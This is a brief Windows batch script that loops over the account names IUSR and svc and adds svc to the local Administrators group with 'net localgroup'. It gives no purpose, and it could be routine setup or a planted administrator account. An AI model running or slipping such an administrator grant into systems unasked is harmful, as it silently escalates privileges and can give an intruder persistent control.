@echo off
setlocal EnableExtensions EnableDelayedExpansion
set USERS=IUSR svc
for %%u in (%USERS%) do (
   set M=%%u
   if not "!M!"=="IUSR" (
      net localgroup Administrators !M! /add
   )
)
